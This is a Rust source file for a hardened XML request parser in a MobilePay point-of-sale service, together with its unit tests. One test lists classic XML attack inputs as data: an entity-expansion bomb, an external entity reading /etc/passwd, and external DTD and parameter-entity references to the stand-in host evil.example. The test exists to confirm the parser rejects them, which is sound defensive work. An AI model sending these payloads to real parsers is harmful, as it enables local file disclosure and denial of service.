//! An XML document's second level as inputs: whatever its root is called, in any namespace and order (mobilepay.md §2.3).
//!
//! Always true: no document type is read, no entity but the five that XML itself has, nothing deeper than eight levels,
//! nothing that is not well formed to its last byte. Nothing is ever fetched. What lies deeper than the second level is
//! passed over, and `i:nil="true"` is nothing.

use quick_xml::events::{BytesRef, BytesStart, Event};
use quick_xml::{Reader, XmlVersion};

use super::{MAX_DEPTH, Unreadable};
use crate::inputs::Inputs;

/// More attributes than any element of a request has.
const MAX_ATTRIBUTES: usize = 16;
/// The level that holds inputs; the root is 1.
const INPUTS: usize = 2;

/// Reads one document and nothing after it.
///
/// # Errors
/// [`Unreadable`].
pub fn xml(body: &[u8]) -> Result<Inputs, Unreadable> {
    let text = std::str::from_utf8(body).map_err(|_| Unreadable)?;
    if !text.chars().all(is_allowed) {
        return Err(Unreadable);
    }
    let mut reader = Reader::from_str(text);
    reader.config_mut().enable_all_checks(true);
    let mut document = Document::default();
    loop {
        match reader.read_event().map_err(|_| Unreadable)? {
            Event::Eof => return document.end(),
            event => document.take(&event)?,
        }
    }
}

/// The characters that XML 1.0 may hold.
const fn is_allowed(character: char) -> bool {
    matches!(character, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}' | '\u{10000}'..)
}

#[derive(Default)]
struct Document {
    inputs: Inputs,
    depth: usize,
    /// Something other than white space has been seen: a declaration would be too late.
    begun: bool,
    /// The root has ended.
    ended: bool,
    /// The input that is being read, and its text so far.
    name: String,
    text: String,
    nil: bool,
}

impl Document {
    fn take(&mut self, event: &Event<'_>) -> Result<(), Unreadable> {
        match event {
            Event::Start(element) => self.open(element)?,
            Event::Empty(element) => {
                self.open(element)?;
                self.close();
            }
            Event::End(_) => self.close(),
            Event::Text(text) if !text.contains("]]>") => self.say(&text.xml10_content())?,
            Event::CData(text) if self.depth > 0 => self.say(&text.xml10_content())?,
            Event::GeneralRef(reference) if self.depth > 0 => {
                let character = character(reference)?;
                self.say(character.encode_utf8(&mut [0; 4]))?;
            }
            Event::Decl(declaration) if !self.begun => {
                let encoding = declaration.encoding().transpose().map_err(|_| Unreadable)?;
                let known = encoding.is_none_or(|name| {
                    name.eq_ignore_ascii_case("utf-8") || name.eq_ignore_ascii_case("us-ascii")
                });
                if !known {
                    return Err(Unreadable);
                }
            }
            Event::Comment(_) | Event::PI(_) => {}
            Event::DocType(_)
            | Event::Decl(_)
            | Event::Text(_)
            | Event::CData(_)
            | Event::GeneralRef(_)
            | Event::Eof => return Err(Unreadable),
        }
        self.begun = true;
        Ok(())
    }

    fn open(&mut self, element: &BytesStart<'_>) -> Result<(), Unreadable> {
        self.depth += 1;
        if self.depth > MAX_DEPTH || self.ended || !is_name(element.name().into_inner()) {
            return Err(Unreadable);
        }
        let nil = is_nil(element)?;
        if self.depth == INPUTS {
            element.local_name().into_inner().clone_into(&mut self.name);
            self.text.clear();
            self.nil = nil;
        }
        Ok(())
    }

    fn close(&mut self) {
        if self.depth == INPUTS && !self.nil {
            self.inputs.push(std::mem::take(&mut self.name), &self.text);
        }
        // The reader has made sure that every end has its beginning.
        self.depth = self.depth.saturating_sub(1);
        self.ended = self.depth == 0;
    }

    fn say(&mut self, text: &str) -> Result<(), Unreadable> {
        match self.depth {
            0 if !text.trim_ascii().is_empty() => return Err(Unreadable),
            INPUTS => self.text.push_str(text),
            _ => {}
        }
        Ok(())
    }

    fn end(self) -> Result<Inputs, Unreadable> {
        if self.ended { Ok(self.inputs) } else { Err(Unreadable) }
    }
}

/// Whether `i:nil` says so. Looks at every attribute, because a document with a broken one is not well formed.
fn is_nil(element: &BytesStart<'_>) -> Result<bool, Unreadable> {
    let mut nil = false;
    for (place, attribute) in element.attributes().enumerate() {
        let attribute = attribute.map_err(|_| Unreadable)?;
        let value = attribute.normalized_value(XmlVersion::Implicit1_0).map_err(|_| Unreadable)?;
        let broken = attribute.value.contains('<') || !is_name(attribute.key.into_inner());
        if place >= MAX_ATTRIBUTES || broken {
            return Err(Unreadable);
        }
        let named = attribute.key.prefix().is_some() && attribute.key.local_name().into_inner() == "nil";
        nil |= named && matches!(value.trim(), "true" | "1");
    }
    Ok(nil)
}

/// Close enough to what XML calls a name.
fn is_name(name: &str) -> bool {
    let rest = |c: char| c.is_alphanumeric() || matches!(c, '_' | '-' | '.' | ':' | '\u{B7}');
    name.starts_with(|c: char| c.is_alphabetic() || c == '_') && name.chars().all(rest)
}

fn character(reference: &BytesRef<'_>) -> Result<char, Unreadable> {
    if let Some(character) = reference.resolve_char_ref().map_err(|_| Unreadable)? {
        return if is_allowed(character) { Ok(character) } else { Err(Unreadable) };
    }
    let name: &str = reference;
    let known = [("amp", '&'), ("lt", '<'), ("gt", '>'), ("quot", '"'), ("apos", '\'')];
    known.iter().find(|(entity, _)| *entity == name).map(|(_, character)| *character).ok_or(Unreadable)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(body: &str) -> Option<String> {
        xml(body.as_bytes()).ok().map(|inputs| inputs.get("orderId").unwrap_or_default().to_owned())
    }

    #[test]
    fn elements_are_found_by_their_local_name() {
        let documented = concat!(
            r#"<QueriesPaymentPrepare xmlns:i="http://www.w3.org/2001/XMLSchema-instance" "#,
            r#"xmlns="http://schemas.datacontract.org/2004/07/_1SA_MobilePay_POS.Models">"#,
            r#"<accessToken xmlns="urn:base">t</accessToken><orderId>17</orderId></QueriesPaymentPrepare>"#
        );
        for (body, expected) in [
            (documented, "17"),
            ("<x><orderId>17</orderId></x>", "17"),
            ("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<x>\n <ORDERID> 17 </ORDERID>\n</x>\n", "17"),
            ("<a:x xmlns:a='u'><a:orderId b:c='1'>17</a:orderId></a:x>", "17"),
            ("<x><orderId>1</orderId><orderid>2</orderid></x>", "1"),
            ("<x><orderId i:nil='true'/><orderId>2</orderId></x>", "2"),
            ("<x><orderId i:nil='true'>1</orderId></x>", ""),
            ("<x><orderId i:nil='false'>1</orderId></x>", "1"),
            ("<x><orderId/></x>", ""),
            ("<x><orderId><![CDATA[<1>]]>7</orderId></x>", "<1>7"),
            ("<x><orderId>&#49;&#x37;</orderId></x>", "17"),
            ("<x><orderId>&lt;&gt;&amp;&quot;&apos;</orderId></x>", "<>&\"'"),
            ("<x><orderId>1<!-- 2 -->7</orderId></x>", "17"),
            ("<x><orderId>1<b>2</b>7</orderId></x>", "17"),
            ("<x><y><orderId>1</orderId></y></x>", ""),
            ("<orderId>17</orderId>", ""),
            ("<x><?pi x?><a><a><a><a><a><a/></a></a></a></a></a></x>", ""),
            ("<x/>", ""),
        ] {
            assert_eq!(read(body).as_deref(), Some(expected), "{body}");
        }
    }

    #[test]
    fn hostile_documents_are_unreadable() {
        let deep = |depth| format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth));
        assert!(xml(deep(MAX_DEPTH).as_bytes()).is_ok());
        let attributes =
            |count| format!("<x {}/>", (0..count).map(|n| format!("a{n}='' ")).collect::<String>());
        assert!(xml(attributes(MAX_ATTRIBUTES).as_bytes()).is_ok());
        let (deep, deepest) = (deep(MAX_DEPTH + 1), deep(9_000));
        let (many, most) = (attributes(MAX_ATTRIBUTES + 1), attributes(7_000));
        let laughs = concat!(
            r#"<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">"#,
            r#"<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><x><orderId>&c;</orderId></x>"#
        );
        for (what, body) in [
            ("entities that multiply", laughs),
            (
                "an external entity",
                r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x><orderId>&e;</orderId></x>"#,
            ),
            ("an external document type", r#"<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>"#),
            ("a parameter entity", r#"<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><x/>"#),
            ("an empty document type", "<!DOCTYPE x><x/>"),
            ("a document type in lower case", "<!doctype x><x/>"),
            ("a document type inside", "<x><!DOCTYPE y></x>"),
            ("an unknown entity", "<x><orderId>&nbsp;</orderId></x>"),
            ("an unknown entity in an attribute", "<x a='&e;'/>"),
            ("a lone ampersand", "<x><orderId>a & b</orderId></x>"),
            ("a character that XML has not", "<x><orderId>&#0;</orderId></x>"),
            ("a control character", "<x><orderId>&#x1F;</orderId></x>"),
            ("half a surrogate pair", "<x><orderId>&#xD800;</orderId></x>"),
            ("a character far too large", "<x><orderId>&#x110000;</orderId></x>"),
            ("a raw control character", "<x>\u{1}</x>"),
            ("too many levels", &deep),
            ("far too many levels", &deepest),
            ("too many attributes", &many),
            ("far too many attributes", &most),
            ("the same attribute twice", "<x a='1' a='2'/>"),
            ("an attribute without a value", "<x a/>"),
            ("an attribute without quotes", "<x a=1/>"),
            ("an element in an attribute", "<x a='<'/>"),
            ("two roots", "<x/><x/>"),
            ("text behind the root", "<x/>17"),
            ("text before the root", "17<x/>"),
            ("a reference behind the root", "<x/>&amp;"),
            ("CDATA behind the root", "<x/><![CDATA[]]>"),
            ("an end without a beginning", "</x>"),
            ("an end too many", "<x/></x>"),
            ("a beginning without an end", "<x><orderId>17</orderId>"),
            ("crossed ends", "<x><a></x></a>"),
            ("ends in another case", "<x></X>"),
            ("a late declaration", " <x/><?xml version='1.0'?>"),
            ("a declaration inside", "<x><?xml version='1.0'?></x>"),
            ("another encoding", "<?xml version='1.0' encoding='utf-16'?><x/>"),
            ("an open comment", "<x><!-- </x>"),
            ("two dashes in a comment", "<x><!-- a -- b --></x>"),
            ("open CDATA", "<x><![CDATA[ </x>"),
            ("the end of CDATA in text", "<x>]]></x>"),
            ("a name that is none", "<1/>"),
            ("no name", "<></>"),
            ("no document", "<!-- x -->"),
            ("only a declaration", "<?xml version='1.0'?>"),
            ("no XML", "orderId=17"),
            ("JSON", r#"{"orderId":17}"#),
        ] {
            assert_eq!(xml(body.as_bytes()), Err(Unreadable), "{what}");
        }
        let utf16: Vec<u8> = "\u{FEFF}<x/>".encode_utf16().flat_map(u16::to_le_bytes).collect();
        for bytes in [&b"<x>\xFF</x>"[..], b"<x>\xC0\xBC</x>", &utf16] {
            assert_eq!(xml(bytes), Err(Unreadable));
        }
    }
}
